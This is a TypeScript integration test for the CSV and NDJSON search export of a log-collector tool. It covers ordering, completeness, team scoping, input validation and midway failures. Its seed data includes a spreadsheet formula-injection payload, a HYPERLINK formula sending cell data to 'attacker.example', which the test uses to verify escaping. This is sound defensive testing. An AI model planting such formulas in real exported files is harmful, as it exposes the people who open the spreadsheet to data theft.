// #18 export: GET /api/search/export and `stacklens search --export`, against a real
// collector and Elasticsearch — every match exactly once, parsed back by an independent CSV
// parser (csv-parse), the declared count confirmed at the end, team scope applied, bad input
// refused by name, and an export that fails midway (Elasticsearch cut off behind a proxy)
// never passed off as whole.
import { spawn, spawnSync } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { existsSync, mkdirSync, readFileSync } from 'node:fs';
import { createServer, request as httpRequest, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { REPO, esClient, startCollector, tempDir, uniqueNamespace, waitFor, type CollectorHandle } from './helpers.js';

const esUrl = inject('esUrl');
const es = esClient(esUrl);
const secret = (who: string) => `${who}-${randomBytes(16).toString('hex')}`;
const VIEWER = secret('viewer');
const POS_VIEWER = secret('pos-viewer');
const ROWS = 12_345;
/** Rows whose labels.note a spreadsheet would run as a formula (i % 1000 === 3). */
const FORMULA_ROWS = 13;
let collector: CollectorHandle;
let ns: string;
let dir: string;
/** The seeded documents' messages, newest first (the export's order). */
let messages: string[];

/** Messages a CSV writer must quote, and ones a careless one would break on. */
const tricky = ['comma, inside', 'quote " inside', 'line\nbreak', 'crlf\r\ninside', '=HYPERLINK("x")', 'ünïcødé ✓ 😀', '  spaces  ', ''];

async function seed(): Promise<void> {
  const base = Date.parse('2026-01-01T00:00:00Z');
  const ops: unknown[] = [];
  messages = [];
  for (let i = 0; i < ROWS; i++) {
    const extra = tricky[i % 97] ?? '';
    const message = `export ${ns} row ${i}${i % 97 < tricky.length ? ` ${extra}` : ''}`;
    // Distinct times: the order newest-first is then one answer.
    const labels = i % 1000 === 3 ? { labels: { note: i % 2000 === 3 ? '=HYPERLINK("http://attacker.example/?"&A1)' : '@SUM(A1:A9)', amount: '-5' } } : {};
    const doc = { '@timestamp': new Date(base + i * 1000).toISOString(), message, ...labels, log: { level: i % 10 === 0 ? 'error' : 'info' }, pos: { store_id: `STORE_${String(i % 7).padStart(3, '0')}` }, data_stream: { type: 'logs', dataset: 'pos', namespace: ns } };
    ops.push({ create: { _index: `logs-pos-${ns}`, _id: `exp-${ns}-${i}` } }, doc);
    messages.push(message);
  }
  // Chat-bot lines of the same run: outside team pos's scope.
  for (let i = 0; i < 50; i++) ops.push({ create: { _index: `logs-chatbot-${ns}`, _id: `exp-${ns}-bot-${i}` } }, { '@timestamp': new Date(base + i * 1000).toISOString(), message: `export ${ns} bot ${i}`, data_stream: { type: 'logs', dataset: 'chatbot', namespace: ns } });
  for (let i = 0; i < ops.length; i += 10_000) {
    const res = await es.bulk({ operations: ops.slice(i, i + 10_000), refresh: false });
    expect(res.errors, JSON.stringify(res.items.find((it: any) => it.create?.error))).toBe(false);
  }
  await es.indices.refresh({ index: `logs-*-${ns}` });
  messages.reverse();
}

const exportUrl = (query: Record<string, string>) => `${collector.url}/api/search/export?${new URLSearchParams(query)}`;

/** GET with node:http (fetch does not expose trailers): status, headers, body and trailers. */
function getRaw(url: string, token: string): Promise<{ status: number; headers: Record<string, any>; body: string; trailers: Record<string, string | undefined>; complete: boolean }> {
  return new Promise((resolve, reject) => {
    const req = httpRequest(url, { headers: { authorization: `Bearer ${token}` } }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c) => chunks.push(c));
      const done = () => resolve({ status: res.statusCode!, headers: res.headers, body: Buffer.concat(chunks).toString('utf8'), trailers: res.trailers, complete: res.complete });
      res.on('end', done);
      res.on('aborted', done);
      res.on('error', done);
    });
    req.on('error', reject);
    req.end();
  });
}

function cli(args: string[], env: Record<string, string> = {}): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [join(REPO, 'cli/dist/cli.js'), ...args], { cwd: dir, env: { ...process.env, NO_COLOR: '1', STACKLENS_URL: collector.url, STACKLENS_TOKEN: VIEWER, ...env } });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (c) => (stdout += c));
    child.stderr.on('data', (c) => (stderr += c));
    child.on('close', (code) => resolve({ code, stdout, stderr }));
  });
}

beforeAll(async () => {
  ns = uniqueNamespace();
  dir = tempDir();
  mkdirSync(join(dir, 'rules'));
  collector = await startCollector(esUrl, {
    dir,
    extra: [
      'api:',
      '  tokens:',
      '    - { name: viewer, token: "${VIEWER}", role: viewer }',
      `    - { name: pos-viewer, token: "sha256:${createHash('sha256').update(POS_VIEWER).digest('hex')}", role: viewer, teams: [pos] }`,
      'chat:\n  teams:\n    pos:\n      datasets: [pos]',
      '',
    ].join('\n'),
    env: { VIEWER },
  });
  await seed();
}, 240_000);
afterAll(() => collector?.stop('SIGKILL'));

describe('GET /api/search/export', () => {
  it('CSV: every match once, newest first, RFC 4180 as an independent parser reads it, the count declared and confirmed', async () => {
    const res = await getRaw(exportUrl({ q: ns, source: 'pos', fields: '@timestamp,message,pos.store_id,log.level,no.such.field' }), VIEWER);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="stacklens-export-\d{8}T\d{6}Z\.csv"$/);
    expect(res.headers['x-total-count']).toBe(String(ROWS));
    expect(res.trailers['x-export-rows']).toBe(String(ROWS));
    expect(res.trailers['x-export-complete']).toBe('true');
    const rows: string[][] = parseCsv(res.body, { relax_column_count: false });
    expect(rows[0]).toEqual(['@timestamp', 'message', 'pos.store_id', 'log.level', 'no.such.field']);
    expect(rows.length - 1).toBe(ROWS);
    // Exactly the seeded messages, in the seeded order (newest first) — tricky ones unchanged.
    expect(rows.slice(1).map((r) => r[1])).toEqual(messages);
    expect(rows.slice(1).every((r) => /^STORE_00\d$/.test(r[2]) && (r[3] === 'info' || r[3] === 'error') && r[4] === '')).toBe(true);
    for (const t of tricky.filter(Boolean)) expect(rows.some((r) => r[1].endsWith(` ${t}`)), JSON.stringify(t)).toBe(true);
    expect(rows.slice(1).map((r) => r[2]).filter((v) => v.startsWith("'"))).toEqual([]);
    // The same count a search reports.
    const page = await (await fetch(`${collector.url}/api/search?q=${ns}&source=pos&size=1`, { headers: { authorization: `Bearer ${VIEWER}` } })).json();
    expect(page.total).toBe(ROWS);
  });

  it('CSV: a cell a spreadsheet would run as a formula is escaped, unless escape_formulas=false', async () => {
    const q = { q: ns, source: 'pos', fields: 'message,labels.note,labels.amount' };
    const notes = (body: string) => (parseCsv(body) as string[][]).slice(1).filter((r) => r[1] !== '');
    const escaped = notes((await getRaw(exportUrl(q), VIEWER)).body);
    expect(escaped.length).toBe(FORMULA_ROWS);
    expect(new Set(escaped.map((r) => r[1]))).toEqual(new Set([`'=HYPERLINK("http://attacker.example/?"&A1)`, "'@SUM(A1:A9)"]));
    // A negative number is a number, not a formula.
    expect(new Set(escaped.map((r) => r[2]))).toEqual(new Set(['-5']));
    const raw = notes((await getRaw(exportUrl({ ...q, escape_formulas: 'false' }), VIEWER)).body);
    expect(new Set(raw.map((r) => r[1]))).toEqual(new Set(['=HYPERLINK("http://attacker.example/?"&A1)', '@SUM(A1:A9)']));
    const bad = await fetch(exportUrl({ escape_formulas: 'maybe' }), { headers: { authorization: `Bearer ${VIEWER}` } });
    expect(bad.status).toBe(400);
    expect((await bad.json()).error).toMatch(/^escape_formulas: must be true or false/);
  });

  it('NDJSON: one object per event with the fields asked for, then the summary line', async () => {
    const res = await getRaw(exportUrl({ q: ns, source: 'pos', format: 'ndjson', fields: 'message,pos.store_id' }), VIEWER);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^application\/x-ndjson/);
    const lines = res.body.trimEnd().split('\n').map((l) => JSON.parse(l));
    expect(lines.at(-1)).toEqual({ export: { rows: ROWS, complete: true } });
    const rows = lines.slice(0, -1);
    expect(rows.map((r) => r.message)).toEqual(messages);
    expect(Object.keys(rows[0]).sort()).toEqual(['message', 'pos.store_id']);
  });

  it('a team-scoped token exports its team\'s data only', async () => {
    const all = await getRaw(exportUrl({ q: ns, format: 'ndjson', fields: 'message,data_stream.dataset' }), VIEWER);
    const scoped = await getRaw(exportUrl({ q: ns, format: 'ndjson', fields: 'message,data_stream.dataset' }), POS_VIEWER);
    const datasets = (body: string) => new Set(body.trimEnd().split('\n').slice(0, -1).map((l) => JSON.parse(l)['data_stream.dataset']));
    expect(datasets(all.body)).toEqual(new Set(['pos', 'chatbot']));
    expect(datasets(scoped.body)).toEqual(new Set(['pos']));
    expect(scoped.headers['x-total-count']).toBe(String(ROWS));
  });

  it('refuses bad input by name, and anyone without a token', async () => {
    const cases: [Record<string, string>, RegExp][] = [
      [{ format: 'xml' }, /^format: "xml" is not one of csv, ndjson/],
      [{ fields: 'message,pos.*' }, /^fields: "pos\.\*" is not a field name/],
      [{ fields: 'message,message' }, /^fields: a field is named twice/],
      [{ size: '10' }, /^unknown parameter size/],
      [{ from: 'yesterday' }, /^from: "yesterday" is not a time/],
      [{ from: '2026-02-01T00:00:00Z', to: '2026-01-01T00:00:00Z' }, /^from: must not be after to/],
      [{ source: 'pos,mail' }, /^source: "mail" is not one of/],
    ];
    for (const [query, error] of cases) {
      const res = await fetch(exportUrl(query), { headers: { authorization: `Bearer ${VIEWER}` } });
      expect(res.status, JSON.stringify(query)).toBe(400);
      expect((await res.json()).error).toMatch(error);
    }
    expect((await fetch(exportUrl({ q: ns }))).status).toBe(401);
  });

  it('a client that goes away mid-export releases the point in time; the metrics count it', async () => {
    const openContexts = async () => {
      const stats: any = await es.nodes.stats({ metric: 'indices', index_metric: 'search' });
      return Object.values(stats.nodes).reduce((n: number, node: any) => n + node.indices.search.open_contexts, 0);
    };
    const before = await openContexts();
    await new Promise<void>((resolve, reject) => {
      const req = httpRequest(exportUrl({ q: ns, fields: 'message' }), { headers: { authorization: `Bearer ${VIEWER}` } }, (res) => {
        // Take the first chunk, then hang up without reading the rest.
        res.once('data', () => {
          req.destroy();
          resolve();
        });
      });
      req.on('error', () => undefined);
      req.on('close', () => resolve());
      req.end();
      setTimeout(() => reject(new Error('no data')), 30_000).unref();
    });
    await waitFor('the export counted as client_gone', async () => /stacklens_search_exports_total\{format="csv",result="client_gone"\} 1\b/.test(await (await fetch(`${collector.url}/metrics`)).text()), 30_000);
    await waitFor('the point in time closed', async () => (await openContexts()) <= before, 30_000);
    // And the collector still answers exports.
    expect((await getRaw(exportUrl({ q: `${ns} row 5`, source: 'pos', fields: 'message' }), VIEWER)).status).toBe(200);
  });
});

describe('stacklens search', () => {
  it('--export FILE.csv writes every match with progress; .ndjson strips the summary line', async () => {
    const csv = await cli(['search', ns, '--source', 'pos', '--export', 'out.csv', '--fields', 'message,pos.store_id']);
    expect(csv.code, csv.stderr).toBe(0);
    expect(csv.stderr).toMatch(/exported \d+% \([\d,]+ rows\/s\)/);
    expect(csv.stderr).toContain(`${ROWS.toLocaleString('en-US')} rows written to out.csv (csv)`);
    const rows: string[][] = parseCsv(readFileSync(join(dir, 'out.csv'), 'utf8'));
    expect(rows.slice(1).map((r) => r[0])).toEqual(messages);
    expect(existsSync(join(dir, 'out.csv.part'))).toBe(false);

    const nd = await cli(['search', ns, '--source', 'pos', '--export', 'out.ndjson', '--fields', 'message']);
    expect(nd.code, nd.stderr).toBe(0);
    const lines = readFileSync(join(dir, 'out.ndjson'), 'utf8').trimEnd().split('\n').map((l) => JSON.parse(l));
    expect(lines.map((l) => l.message)).toEqual(messages);
  });

  it('prints the newest matches one line each, and says how many there are', async () => {
    const r = await cli(['search', `${ns} row`, '--source', 'pos', '--size', '3']);
    expect(r.code, r.stderr).toBe(0);
    const printed = r.stdout.trimEnd().split('\n');
    expect(printed).toHaveLength(3);
    expect(printed[0]).toMatch(new RegExp(`^2026-01-01T\\S+Z  pos +(INFO |ERROR) export ${ns} row ${ROWS - 1}\\b`));
    expect(r.stderr).toContain(`3 of ${ROWS.toLocaleString('en-US')} match(es)`);
    const json = await cli(['search', `${ns} row`, '--source', 'pos', '--size', '2', '--json']);
    expect(JSON.parse(json.stdout).hits).toHaveLength(2);
  });

  it('errors say what to change: the URL, the token, the option', async () => {
    const unreachable = await cli(['search', 'x'], { STACKLENS_URL: 'http://127.0.0.1:9' });
    expect(unreachable.code).toBe(1);
    expect(unreachable.stderr).toMatch(/cannot reach the collector at http:\/\/127\.0\.0\.1:9 \(ECONNREFUSED\); set --url or \$STACKLENS_URL/);
    const badToken = await cli(['search', 'x'], { STACKLENS_TOKEN: 'not-a-token-of-this-collector' });
    expect(badToken.code).toBe(1);
    expect(badToken.stderr).toMatch(/refused the token \(401/);
    expect(badToken.stderr).not.toContain('not-a-token-of-this-collector');
    const badField = await cli(['search', 'x', '--export', 'bad.csv', '--fields', 'a b']);
    expect(badField.code).toBe(1);
    expect(badField.stderr).toMatch(/fields: "a b" is not a field name/);
    expect(existsSync(join(dir, 'bad.csv'))).toBe(false);
    const help = spawnSync(process.execPath, [join(REPO, 'cli/dist/cli.js'), 'search', '--help'], { encoding: 'utf8' });
    expect(help.status).toBe(0);
    expect(help.stdout).toMatch(/--export FILE/);
  });
});

describe('an export that fails midway', () => {
  let proxy: Server;
  let broken: CollectorHandle;
  /** How many more export page requests (searches in a point in time) reach Elasticsearch; the rest are cut off. */
  let pagesLeft = Infinity;
  beforeAll(async () => {
    // Elasticsearch behind a proxy that passes everything, except export pages past `pagesLeft`:
    // their connection is reset, as when a node dies.
    const target = new URL(esUrl);
    proxy = createServer((req, res) => {
      const body: Buffer[] = [];
      req.on('data', (c) => body.push(c));
      req.on('end', () => {
        const payload = Buffer.concat(body);
        if (/\/_search\b/.test(req.url ?? '') && payload.includes('"pit":{') && pagesLeft-- <= 0) return void req.socket.destroy();
        const up = httpRequest({ host: target.hostname, port: target.port, method: req.method, path: req.url, headers: req.headers }, (r) => {
          res.writeHead(r.statusCode!, r.headers);
          r.pipe(res);
        });
        up.on('error', () => res.destroy());
        up.end(payload);
      });
    });
    await new Promise<void>((r) => proxy.listen(0, '127.0.0.1', r));
    const bdir = tempDir();
    mkdirSync(join(bdir, 'rules'));
    broken = await startCollector(`http://127.0.0.1:${(proxy.address() as AddressInfo).port}`, { dir: bdir, extra: 'api:\n  viewer_tokens: ["${VIEWER}"]\n', env: { VIEWER } });
  });
  afterAll(async () => {
    await broken?.stop('SIGKILL');
    proxy?.close();
  });

  const exportFrom = (format: string) =>
    getRaw(`${broken.url}/api/search/export?${new URLSearchParams({ q: ns, source: 'pos', format, fields: 'message' })}`, VIEWER);

  it('NDJSON ends with complete:false and the reason; CSV is cut off, without the trailer', async () => {
    pagesLeft = 1;
    const nd = await exportFrom('ndjson');
    expect(nd.status).toBe(200);
    const lines = nd.body.trimEnd().split('\n').map((l) => JSON.parse(l));
    const last = lines.at(-1);
    expect(last.export).toMatchObject({ complete: false, rows: lines.length - 1 });
    expect(last.export.rows).toBeGreaterThan(0);
    expect(last.export.rows).toBeLessThan(ROWS);
    expect(last.export.error).toBeTruthy();

    pagesLeft = 1;
    const csv = await exportFrom('csv');
    expect(csv.status).toBe(200);
    expect(csv.complete).toBe(false);
    expect(csv.trailers['x-export-complete']).toBeUndefined();

    // Failing at the first page: an error status, not an empty export.
    pagesLeft = 0;
    const none = await exportFrom('csv');
    expect(none.status).toBe(503);
    pagesLeft = Infinity;
    await waitFor('failed exports counted', async () => /stacklens_search_exports_total\{format="csv",result="failed"\} 2\b/.test(await (await fetch(`${broken.url}/metrics`)).text()), 10_000);
  });

  it('the CLI keeps no file of a cut-off export, and says how far it got', async () => {
    for (const file of ['cut.ndjson', 'cut.csv']) {
      pagesLeft = 2;
      const r = await cli(['search', ns, '--source', 'pos', '--export', file], { STACKLENS_URL: broken.url });
      pagesLeft = Infinity;
      expect(r.code, r.stderr).toBe(1);
      expect(r.stderr).toMatch(/export incomplete after [\d,]+ of 12,345 rows/);
      expect(existsSync(join(dir, file))).toBe(false);
      expect(existsSync(join(dir, `${file}.part`))).toBe(false);
    }
  });
});
